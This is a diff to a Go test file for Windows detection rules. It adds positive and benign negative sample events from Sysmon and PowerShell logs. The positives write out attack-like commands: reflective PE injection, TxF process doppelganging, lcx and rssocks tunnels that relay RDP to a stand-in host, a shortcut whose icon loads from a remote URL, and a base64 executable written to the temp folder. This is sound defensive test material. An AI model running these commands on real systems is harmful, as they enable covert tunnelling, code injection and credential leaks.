@@ -33,6 +33,71 @@ func init() {
 				"Initiated":       "true",
 			},
 		},
+		ruleSample{
+			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
+			Fields: map[string]string{
+				"SourceImage":   `C:\Users\bob\AppData\Local\Temp\loader.exe`,
+				"TargetImage":   `C:\Windows\System32\notepad.exe`,
+				"StartAddress":  "0x0000020A5B1C0000",
+				"StartModule":   "",
+				"StartFunction": "",
+			},
+		},
+		ruleSample{
+			ID:      "e3cc6a72-48fa-4b70-b758-cfdc51f14899", // Script Injects a PE Into Another Process With Invoke-ReflectivePEInjection
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$b=[IO.File]::ReadAllBytes("C:\Users\bob\m.dll"); Invoke-ReflectivePEInjection -PEBytes $b -ProcId 4312`,
+			},
+		},
+		ruleSample{
+			ID:      "849e9952-df34-4ff8-8ee9-34ffded3b4c9", // Script Uses Transactional NTFS to Create a Process From a Rolled-Back File
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$tx=[Ktm]::CreateTransaction([IntPtr]::Zero,[IntPtr]::Zero,0,0,0,0,$null); $h=[Ktm]::CreateFileTransacted("C:\Windows\Temp\svc.exe",0xC0000000,0,[IntPtr]::Zero,2,0x80,[IntPtr]::Zero,$tx,[IntPtr]::Zero,[IntPtr]::Zero); [Nt]::NtCreateSection([ref]$sec,0xF001F,[IntPtr]::Zero,[IntPtr]::Zero,2,0x1000000,$h); [Ktm]::RollbackTransaction($tx)`,
+			},
+		},
+		ruleSample{
+			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     `C:\Windows\System32\rundll32.exe`,
+				"QueryName": "steamcommunity.com",
+			},
+		},
+		ruleSample{
+			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\ProgramData\lcx.exe`,
+				"CommandLine": `C:\ProgramData\lcx.exe -slave 198.51.100.9 51 127.0.0.1 3389`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Users\Public\svc.exe`,
+				"CommandLine": `svc.exe -s rssocks -d 198.51.100.9 -e 8888`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "a3668dd3-b981-492c-b954-87e757fbf19b", // Script Creates a Shortcut Whose Icon Location Is a URL
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:USERPROFILE\Desktop\Invoice.lnk"); $s.TargetPath="C:\Windows\System32\cmd.exe"; $s.IconLocation="http://198.51.100.9/i.ico"; $s.Save()`,
+			},
+		},
+		ruleSample{
+			ID:      "ae38b74f-aec8-4182-9f71-e5a38c70c1bb", // Script Block Carries an Embedded Windows Executable
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$p="TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFt"; [IO.File]::WriteAllBytes("$env:TEMP\u.exe",[Convert]::FromBase64String($p))`,
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -61,6 +126,98 @@ func init() {
 				"DestinationIp":   "142.250.74.36",
 				"DestinationPort": "443",
 				"Initiated":       "true",
+			},
+		},
+		ruleSample{
+			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
+			Fields: map[string]string{
+				"SourceImage":   `C:\Users\bob\AppData\Local\Temp\loader.exe`,
+				"TargetImage":   `C:\Windows\System32\notepad.exe`,
+				"StartAddress":  "0x00007FFB1C2A1E40",
+				"StartModule":   `C:\Windows\System32\KERNEL32.DLL`,
+				"StartFunction": "LoadLibraryW",
+			},
+		},
+		ruleSample{
+			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
+			Fields: map[string]string{
+				"SourceImage":  `C:\Windows\System32\csrss.exe`,
+				"TargetImage":  `C:\Windows\System32\cmd.exe`,
+				"StartAddress": "0x00007FFB1C2A1E40",
+				"StartModule":  "",
+			},
+		},
+		ruleSample{
+			ID:      "e3cc6a72-48fa-4b70-b758-cfdc51f14899", // Script Injects a PE Into Another Process With Invoke-ReflectivePEInjection
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$b=[IO.File]::ReadAllBytes("C:\Users\bob\m.dll"); Invoke-ReflectivePEInjection -PEBytes $b -ExeArgs "x"`,
+			},
+		},
+		ruleSample{
+			ID:      "849e9952-df34-4ff8-8ee9-34ffded3b4c9", // Script Uses Transactional NTFS to Create a Process From a Rolled-Back File
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `# TxF is deprecated; use ReplaceFile instead of CreateFileTransacted in new code.
+[IO.File]::Replace($tmp,$dst,$bak)`,
+			},
+		},
+		ruleSample{
+			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     `C:\Program Files\Google\Chrome\Application\chrome.exe`,
+				"QueryName": "steamcommunity.com",
+			},
+		},
+		ruleSample{
+			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"QueryName": "www.powershellgallery.com",
+			},
+		},
+		ruleSample{
+			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"QueryName": "fedex.com",
+			},
+		},
+		ruleSample{
+			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Program Files\ffmpeg\bin\ffmpeg.exe`,
+				"CommandLine": `ffmpeg.exe -listen 1 -i rtmp://0.0.0.0:1935/live out.mp4`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\netsh.exe`,
+				"CommandLine": `netsh interface portproxy show all`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "a3668dd3-b981-492c-b954-87e757fbf19b", // Script Creates a Shortcut Whose Icon Location Is a URL
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:USERPROFILE\Desktop\Notepad.lnk"); $s.TargetPath="C:\Windows\notepad.exe"; $s.IconLocation="C:\Windows\notepad.exe,0"; $s.Save()`,
+			},
+		},
+		ruleSample{
+			ID:      "ae38b74f-aec8-4182-9f71-e5a38c70c1bb", // Script Block Carries an Embedded Windows Executable
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$logo="iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAA"; [IO.File]::WriteAllBytes("$env:TEMP\logo.png",[Convert]::FromBase64String($logo))`,
 			},
 		},
 	)
